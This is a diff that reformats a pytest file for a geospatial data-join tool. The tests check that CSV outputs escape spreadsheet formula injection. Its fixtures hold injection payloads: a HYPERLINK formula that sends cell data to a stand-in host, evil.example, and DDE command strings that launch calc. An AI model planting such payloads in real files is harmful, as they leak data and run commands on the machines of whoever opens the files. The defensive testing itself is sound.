@@ -21,8 +21,16 @@ pytestmark = pytest.mark.filterwarnings("ignore:Could not parse column:UserWarni
 
 HYPERLINK = '=HYPERLINK("http://evil.example/leak?"&A1,"Click")'
 CMD = "+cmd|' /C calc'!A0"
-FORMULAS = [HYPERLINK, CMD, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-",
-            "+92 300 1111111"]
+FORMULAS = [
+    HYPERLINK,
+    CMD,
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "-",
+    "+92 300 1111111",
+]
 PLAIN = ["Peshawar", "-12.5", "+3", "-1,234", "1e-5", " =1+1", "D.I. Khan", "", "a=b"]
 
 
@@ -55,21 +63,29 @@ def _cells(path) -> list[list[str]]:
 def squares(tmp_path):
     """Three square districts, one named like a formula."""
     path = tmp_path / "districts.geojson"
-    gpd.GeoDataFrame({"name": ["Peshawar", "Quetta", "=1+1"]},
-                     geometry=[shapely.box(70 + i, 30, 71 + i, 31) for i in range(3)],
-                     crs="EPSG:4326").to_file(path, driver="GeoJSON")
+    gpd.GeoDataFrame(
+        {"name": ["Peshawar", "Quetta", "=1+1"]},
+        geometry=[shapely.box(70 + i, 30, 71 + i, 31) for i in range(3)],
+        crs="EPSG:4326",
+    ).to_file(path, driver="GeoJSON")
     return path
 
 
 def test_joined_csv_and_report_neutralize_formulas(squares, tmp_path):
     table = tmp_path / "partner.csv"
-    rows = [["District", "note", "=change", "refugees"], ["Peshawar", HYPERLINK, "-12", "100"],
-            ["Quetta", CMD, "-3.5", "-7"], [HYPERLINK, "@x", "0", "5"], ["=1+1", "ok", "1", "2"]]
+    rows = [
+        ["District", "note", "=change", "refugees"],
+        ["Peshawar", HYPERLINK, "-12", "100"],
+        ["Quetta", CMD, "-3.5", "-7"],
+        [HYPERLINK, "@x", "0", "5"],
+        ["=1+1", "ok", "1", "2"],
+    ]
     with open(table, "w", newline="", encoding="utf-8") as f:
         csv.writer(f).writerows(rows)
     out, report = tmp_path / "joined.csv", tmp_path / "report.csv"
-    assert main(["join", str(squares), str(table), "--on", "name=District", "-o", str(out),
-                 "--report", str(report)]) == 0
+    assert (
+        main(["join", str(squares), str(table), "--on", "name=District", "-o", str(out), "--report", str(report)]) == 0
+    )
     joined = _cells(out)
     assert joined[0] == ["name", "note", "'=change", "refugees"]
     # Numbers stay numbers (the change column is read as floats: -12 is written -12.0).
@@ -87,8 +103,9 @@ def test_spatial_join_report_keeps_negative_coordinates(squares, tmp_path):
     points = tmp_path / "points.csv"
     points.write_text("site,lon,lat\n=evil,70.5,30.5\nfar,-70.25,-30.75\nnowhere,,\n", encoding="utf-8")
     out, report = tmp_path / "counted.csv", tmp_path / "points_report.csv"
-    assert main(["join", str(squares), str(points), "--stat", "sites=count", "-o", str(out),
-                 "--report", str(report)]) == 0
+    assert (
+        main(["join", str(squares), str(points), "--stat", "sites=count", "-o", str(out), "--report", str(report)]) == 0
+    )
     rows = _cells(report)
     assert rows[0] == ["section", "point_row", "x", "y"]
     outside = [r for r in rows if r[0] == "outside"]
@@ -100,12 +117,23 @@ def test_zonal_report_is_plain_numbers(squares, tmp_path):
     raster = tmp_path / "grid.tif"
     values = np.ones((10, 30), dtype="float32")
     values[:, 20:] = -9999  # no valid cell under the third square
-    with rasterio.open(raster, "w", driver="GTiff", width=30, height=10, count=1, dtype="float32",
-                       crs="EPSG:4326", transform=Affine(0.1, 0, 70, 0, -0.1, 31), nodata=-9999) as dst:
+    with rasterio.open(
+        raster,
+        "w",
+        driver="GTiff",
+        width=30,
+        height=10,
+        count=1,
+        dtype="float32",
+        crs="EPSG:4326",
+        transform=Affine(0.1, 0, 70, 0, -0.1, 31),
+        nodata=-9999,
+    ) as dst:
         dst.write(values, 1)
     out, report = tmp_path / "zonal.csv", tmp_path / "zonal_report.csv"
-    assert main(["join", str(squares), str(raster), "--stat", "total=sum", "-o", str(out),
-                 "--report", str(report)]) == 0
+    assert (
+        main(["join", str(squares), str(raster), "--stat", "total=sum", "-o", str(out), "--report", str(report)]) == 0
+    )
     assert _cells(report) == [["section", "polygon_row"], ["no_valid_cell", "2"]]
     assert _cells(out)[3][0] == "'=1+1"
 
